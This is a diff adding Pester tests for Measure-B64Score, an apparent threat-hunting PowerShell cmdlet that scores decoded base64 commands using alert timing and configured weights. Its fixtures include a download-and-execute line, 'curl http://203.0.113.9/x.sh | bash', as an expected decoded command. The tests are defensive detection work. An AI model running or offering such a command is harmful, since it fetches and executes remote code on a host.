@@ -104,3 +104,73 @@ Describe 'Measure-B64Score' {
         }
     }
 }
+
+Describe 'Measure-B64Score -AlertWindow' {
+    It 'counts only alerts close in time to the command on their host' {
+        # curl ran on web1 at 30: the alert at 35 is on the +5 min bound (3), the one at 36 is outside.
+        # whoami ran on web1 at 10: both alerts are 25+ min away, so 0.5 + 0 = 0.5, now below id (1).
+        $scores = $Events | Measure-B64Score -Alert $Alerts -AlertWindow '00:05:00'
+        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
+        $scores[0].AlertScore | Should -Be 3
+        $scores[0].Alerts | Should -HaveCount 1
+        $scores[0].Alerts[0].TimeGenerated | Should -Be $T0.AddMinutes(35)
+        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 0.5
+    }
+
+    It 'keeps the notebook rule without it' {
+        $scores = $Events | Measure-B64Score -Alert $Alerts
+        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 3.5
+    }
+
+    It 'rejects a negative window with InvalidAlertWindow' {
+        { $Events | Measure-B64Score -AlertWindow ([timespan]::FromHours(-1)) -ErrorAction Stop } |
+            Should -Throw -ErrorId 'InvalidAlertWindow,B64Hunt.Commands.MeasureB64ScoreCommand'
+    }
+}
+
+Describe 'Measure-B64Score configuration' {
+    BeforeEach {
+        $script:SavedConfig = $env:B64HUNT_CONFIG
+        $env:B64HUNT_CONFIG = Join-Path $TestDrive 'config.yaml'
+    }
+    AfterEach {
+        $env:B64HUNT_CONFIG = $script:SavedConfig
+        Remove-Item (Join-Path $TestDrive '*.yaml') -ErrorAction Ignore
+    }
+
+    It 'uses Scoring.Weights and Scoring.AlertWindow from $env:B64HUNT_CONFIG' {
+        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights: { High: 10 }`n  AlertWindow: '00:05:00'"
+        $scores = $Events | Measure-B64Score -Alert $Alerts
+        # curl: 1 + TI High 10 + alert 3 (AlertHigh is its own weight) = 14; whoami: 0.5 (window), id: 1.
+        $scores[0].TotalScore | Should -Be 14
+        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
+    }
+
+    It 'lets -Weight and -AlertWindow beat the configuration' {
+        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights: { High: 10, AlertHigh: 5 }`n  AlertWindow: '00:05:00'"
+        $scores = $Events | Measure-B64Score -Alert $Alerts -Weight @{ High = 1 } -AlertWindow '1.00:00:00'
+        # curl: 1 + TI 1 (parameter) + alert 5 (config) = 7; whoami: 0.5 + 5 (inside a day) = 5.5.
+        $scores[0].TotalScore | Should -Be 7
+        ($scores | Where-Object DecodedCommand -EQ 'whoami').TotalScore | Should -Be 5.5
+    }
+
+    It 'stops on an unknown configured weight, naming the key' {
+        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights:`n    Severe: 2"
+        $err = $null
+        try { $Events | Measure-B64Score -ErrorAction Stop } catch { $err = $_ }
+        $err.FullyQualifiedErrorId | Should -Be 'UnknownScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
+        $err.Exception.Message | Should -Match 'Scoring\.Weights\.Severe'
+    }
+
+    It 'stops on a configured weight that is not a number with InvalidConfigFile' {
+        Set-Content -Path $env:B64HUNT_CONFIG -Value "Scoring:`n  Weights:`n    Medium: lots"
+        { $Events | Measure-B64Score -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidConfigFile,B64Hunt.Commands.MeasureB64ScoreCommand'
+    }
+
+    It 'reads -ConfigPath relative to the current location' {
+        Set-Content -Path (Join-Path $TestDrive 'other.yaml') -Value "Scoring:`n  Weights: { AlertHigh: 0 }"
+        Push-Location $TestDrive
+        try { $scores = $Events | Measure-B64Score -Alert $Alerts -ConfigPath ./other.yaml } finally { Pop-Location }
+        $scores | ForEach-Object { $_.AlertScore | Should -Be 0 }
+    }
+}
